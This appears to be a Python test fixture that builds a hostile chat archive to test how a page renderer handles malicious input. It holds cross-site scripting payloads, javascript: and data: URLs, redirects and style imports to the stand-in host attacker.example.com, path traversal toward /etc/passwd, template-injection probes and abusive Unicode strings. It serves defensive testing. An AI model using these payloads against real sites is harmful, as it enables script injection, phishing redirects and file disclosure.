"""An archive that attacks whoever reads it: every text is a way to run, load or break something."""

from __future__ import annotations

import json
from base64 import b64decode
from pathlib import Path
from typing import NamedTuple

from etl.config import FILE_NAME
from tests.pages import message, write_page

# What a script that runs leaves behind, in the window of the page.
GLOBAL = "hostile"
HOST = "attacker.example.com"
# The least picture there is: one dot.
PNG = b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
_RUN = f"window.{GLOBAL}=1"
_SCRIPTS = (
    f"<script>{_RUN};alert(1)</script>",
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f"</textarea></title></style></script><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" x="',
    f"' onfocus='{_RUN}' autofocus x='",
    f"<svg/onload={_RUN}>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<iframe srcdoc='<script>parent.{GLOBAL}=1</script>'></iframe>",
    f"<details open ontoggle={_RUN}>",
    f"<body onload={_RUN}>",
    f'<meta http-equiv="refresh" content="0;url=http://{HOST}/">',
    f'<base href="http://{HOST}/">',
    f'<link rel="stylesheet" href="http://{HOST}/a.css">',
    f'<form action="http://{HOST}/"><button>Search</button></form>',
    f"<style>@import 'http://{HOST}/a.css'; body {{ display: none }}</style>",
    f'<p style="background: url(http://{HOST}/a.png); position: fixed; inset: 0">over all</p>',
    "]]><!-- --><![CDATA[<plaintext>",
    "<!--<script>",
    "{{ 7*7 }} {% raw %} {{ visit.connection }} ${7*7} #{7*7}",
    f"&lt;script&gt;{_RUN}&lt;/script&gt; &#60;b&#62; &amp;lt; &nbsp; &copy",
    f"&#38;#60;script&#38;#62;{_RUN}",
)
_LETTERS = (
    "\u202egnp.exe\u202c \u2066inside\u2069 \u2067left open \u202d",
    "\u200b\u200c\u200d\u2060\ufeff",
    "\u0000".join("nul"),
    "".join(map(chr, [*range(1, 9), 11, 12, *range(14, 32), *range(127, 160)])) + "\ufffe\uffff",
    "line\u2028separator\u2029paragraph\x85next",
    "👨‍👩‍👧‍👦🏳️‍🌈\U000e0041 \U0010ffff \ue000",
    "a" + "\u0300\u0315\u0489" * 2_000,
    "﷽" * 200,
    "x" * 100_000,
    "长" * 100_000,
    "word " * 20_000,
    "\n" * 3_000 + "end",
    "[强]" * 3_000,
)
_ADDRESSES = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}//http://a.example.com/",
    f"\x01javascript:{_RUN}",
    f"java\tscript:{_RUN}",
    f"data:text/html,<script>opener.{GLOBAL}=1</script>",
    f"vbscript:{_RUN}",
    "file:///etc/passwd",
    "blob:http://a.example.com/1",
    "//a.example.com/no-scheme",
    "http:a.example.com",
    "http:///no-host",
    "http://[::1",
    f'http://a.example.com/"onmouseover="{_RUN}',
    f"http://a.example.com/'onmouseover='{_RUN}",
    "http://user:secret@a.example.com:99999/",
    "http://xn--80ak6aa92e.example.com/аррӏе",
    "http://a.example.com/" + "y" * 5_000,
    "http://" + "z" * 3_000 + ".example.com/",
)
_PICTURES = (
    "http://pics.example.com/../../etc/passwd.png",
    "http://pics.example.com/..%2f..%2fetc%2fpasswd.png",
    "http://pics.example.com/..\\..\\windows.png",
    "http://pics.example.com/..",
    "http://pics.example.com/.",
    "http://pics.example.com/%2e%2e",
    f'http://pics.example.com/"onerror="{_RUN}.png',
    f"http://pics.example.com/<script>{_RUN}<script>.png",
    "http://pics.example.com/😀~2F.png",
    "http://pics.example.com/" + "p" * 3_000 + ".png",
    f"javascript:{_RUN}/a.png",
    "data:image/svg+xml,<svg/onload=1>/b.svg",
    "/etc/passwd",
)
_NAMES = (
    *_SCRIPTS[:8],
    "..", ".", "?", "#", "%", "%2e%2e", "~2E~2E", "a/b", "a\\b", '"', "'", "&amp;", "<b>", "+", ";",
    ":", "{{ 7*7 }}", "a b", "我", "\u202eevil", "\u200b", "👨‍👩‍👧‍👦",
    "e" + "\u0301\u0489" * 300, "n" * 2_000, "名" * 700,
)  # fmt: skip
_ROOMS = (
    "<img src=x onerror=hostile=1>", "?", "#", "%2e%2e", "~2E~2E", '"', "'", "a b", "{{ 7*7 }}",
    "😀", "\u202eevil", "feed.atom", "2031-02-03", "&amp;", "r" * 120,
)  # fmt: skip


class Hostile(NamedTuple):
    """What stands in the archive, to look for."""

    rooms: tuple[str, ...]
    names: tuple[str, ...]


def write_hostile(folder: Path) -> Hostile:
    """Write the pages, some pictures, and the archive.toml that is to be given with them."""
    write_page(folder, *_at_times(_everything()), room="main")
    for number, room in enumerate(_ROOMS):
        write_page(folder, message("07:00:00", _NAMES[0], f"room {number}"), room=room)
    titles = [
        f"[rooms.{_toml(room)}]\ntitle = {_toml(title)}\n"
        for room, title in zip(
            _ROOMS, [*_SCRIPTS[:6], *_NAMES[8:16], "i" + "\u0489" * 300], strict=True
        )
    ]
    (folder / FILE_NAME).write_text("".join(titles), "utf-8")
    (folder / "img").mkdir()
    # one that is there, whatever its name is, one that is no picture, and one that is not ours
    (folder / "img" / _PICTURES[6].rpartition("/")[2]).write_bytes(PNG)
    (folder / "img" / "a.png").write_text(_SCRIPTS[0])
    (folder / "passwd.png").write_bytes(PNG)
    return Hostile(("main", *_ROOMS), _NAMES)


def _toml(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)


def _everything() -> list[tuple[str, str]]:
    """Speakers and bodies."""
    texts = [*_SCRIPTS, *_LETTERS, *_ADDRESSES, *map("@{} hello".format, _NAMES)]
    quotes = [
        f"「{name}:{text}」 {'- ' * 15}{text}"
        for name, text in zip(_NAMES, [*_SCRIPTS, *_ADDRESSES], strict=False)
    ]
    bodies = [
        *texts,
        *quotes,
        *map(_era_c, _ADDRESSES, _SCRIPTS),
        *map(_era_d, _ADDRESSES, _SCRIPTS),
        *(f"[{script}\n]()" for script in _SCRIPTS),
        *(f"![x]({url})" for url in _PICTURES),
    ]
    return [
        *((name, f"I am {name}") for name in _NAMES),
        *((_NAMES[at % len(_NAMES)], body) for at, body in enumerate(bodies)),
        *(("", script) for script in _SCRIPTS),
    ]


def _at_times(said: list[tuple[str, str]]) -> list[str]:
    return [
        message(f"07:{at // 60:02}:{at % 60:02}", name, body)
        for at, (name, body) in enumerate(said)
    ]


def _era_c(url: str, title: str) -> str:
    return f"[{title}\n]({url})"


def _era_d(url: str, title: str) -> str:
    quoted = url.replace("&", "&amp;amp;").replace('"', "&amp;quot;")
    return (
        f"[&amp;lt;a href=&amp;quot;{quoted}&amp;quot; target=&amp;quot;_blank&amp;quot;&amp;gt;"
        f"{title}&amp;lt;/a&amp;gt;&lt;/td&gt;&lt;/tr&gt;\n](x)"
    )
